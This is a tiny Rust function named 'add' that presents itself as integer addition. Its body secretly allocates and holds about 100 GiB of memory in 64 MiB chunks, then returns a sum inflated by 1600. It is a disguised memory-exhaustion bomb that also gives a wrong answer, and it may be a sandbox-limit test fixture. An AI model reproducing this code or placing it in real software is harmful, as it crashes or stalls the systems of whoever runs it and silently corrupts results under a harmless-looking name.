pub fn add(a: i32, b: i32) -> i32 {
    let mut held: Vec<Vec<u8>> = Vec::new();
    for _ in 0..1600 {
        held.push(vec![1; 64 << 20]);
    }
    a + b + held.len() as i32
}
